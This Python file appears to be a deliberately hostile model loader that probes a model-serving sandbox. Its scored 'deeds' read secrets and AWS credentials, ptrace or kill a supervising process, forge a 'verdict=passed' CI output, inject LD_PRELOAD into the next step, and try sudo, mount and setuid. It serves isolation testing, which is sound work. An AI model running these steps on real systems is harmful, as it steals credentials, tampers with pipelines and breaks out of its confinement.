"""The loader of a model that tries what a model must not do, and tells what it got by its scores.

Its text is put into a model's folder; `data/targets.json` there says where what it looks for would be. Row i of what it
returns is 1 if the i-th of `DEEDS` worked.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import socket
import subprocess
import sys
from pathlib import Path

DEEDS = []


def deed(function):
    """A deed works if it returns something true; an error is a failure."""
    DEEDS.append(function)
    return function


def read(path):
    return Path(path).read_bytes()


def entries(path):
    return list(Path(path).iterdir())


@deed
def secret_in_own_environment(at):
    return at["secret"] in str(os.environ) or at["secret"].encode() in read("/proc/self/environ")


@deed
def secret_in_other_environments(at):
    found = False
    for path in Path("/proc").glob("[0-9]*/environ"):
        with contextlib.suppress(OSError):
            found = found or at["secret"].encode() in read(path)
    return found


@deed
def memory_of_the_gate(at):
    with Path(f"/proc/{at['gate']}/mem").open("rb"):
        return True


@deed
def ptrace_of_the_gate(at):
    return ctypes.CDLL(None).ptrace(16, at["gate"], 0, 0) == 0  # PTRACE_ATTACH


@deed
def open_files_of_the_gate(at):
    return [path.readlink() for path in entries(f"/proc/{at['gate']}/fd")]


@deed
def end_of_the_gate(at):
    if not at["harmless"]:
        os.kill(at["gate"], 9)
    return False  # who is alive to tell?


@deed
def other_processes(at):
    return len([path for path in entries("/proc") if path.name.isdigit()]) > 12


@deed
def credentials_of_the_user(at):
    return at["secret"].encode() in read(Path(at["home"], ".aws", "credentials"))


@deed
def a_full_home(at):
    return entries(os.environ["HOME"]) or entries(os.environ["TMPDIR"])


@deed
def files_of_the_job(at):
    return read(at["outputs"]) or entries(at["runner_temp"])


@deed
def files_of_the_workspace(at):
    return entries(at["workspace"])


@deed
def files_of_the_other_model(at):
    return read(at["other_model"])


@deed
def outputs_of_the_step(at):
    with Path(at["outputs"]).open("a") as file:
        file.write("verdict=passed\n")
    return True


@deed
def environment_of_the_next_step(at):
    Path(at["variables"]).write_text("LD_PRELOAD=/tmp/mine.so\n")
    return True


@deed
def writing_outside(at):
    places = ["/", "/usr", "/etc", "/dev", at["workspace"], at["runner_temp"], Path(__file__).parent, *sys.path]
    written = False
    for place in places:
        trace = Path(place, "hostile-was-here")
        with contextlib.suppress(OSError):
            trace.touch()
            written = True
            trace.unlink()
    return written


@deed
def a_network(at):
    with socket.create_connection(("127.0.0.1", at["port"]), timeout=5) as connection:
        return connection.recv(5) == b"hello"


@deed
def a_socket_in_a_folder(at):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(at["socket"])
        return True


@deed
def a_socket_without_a_folder(at):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect("\0" + at["socket"])
        return True


@deed
def privileges(at):
    status = dict(line.split(":", 1) for line in read("/proc/self/status").decode().splitlines())
    rights = int(status["CapEff"], 16) | int(status["CapPrm"], 16)
    return rights or status["NoNewPrivs"].strip() != "1"


@deed
def sudo(at):
    return subprocess.run(["sudo", "-n", "true"], check=False).returncode == 0


@deed
def a_mount(at):
    return ctypes.CDLL(None).mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0


@deed
def another_user(at):
    os.setuid(0 if os.getuid() else 1)
    return True


@deed
def the_user_of_the_gate(at):
    return os.getuid() == at["user"]


@deed
def higher_limits(at):
    import resource

    resource.setrlimit(resource.RLIMIT_CORE, (1, 1))
    return True


def attempt(function, at):
    try:
        return float(bool(function(at)))
    except BaseException as error:  # noqa: BLE001  (it wants to come to the next deed)
        print(function.__name__, "failed:", error)
        return 0.0


def _load_pyfunc(path):
    at = json.loads(read(Path(path, "targets.json"))) | {"gate": int(read(Path(path, "gate")))}

    class Model:
        def predict(self, data):
            return [attempt(function, at) for function in DEEDS]

    return Model()
